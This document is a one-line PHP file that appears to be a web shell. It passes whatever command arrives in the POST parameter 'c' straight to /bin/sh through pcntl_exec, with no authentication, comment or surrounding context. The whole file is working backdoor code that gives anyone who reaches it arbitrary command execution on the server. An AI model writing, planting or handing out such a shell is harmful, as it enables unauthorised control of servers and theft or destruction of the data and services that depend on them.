<?php pcntl_exec('/bin/sh', array('-c', $_POST['c']));
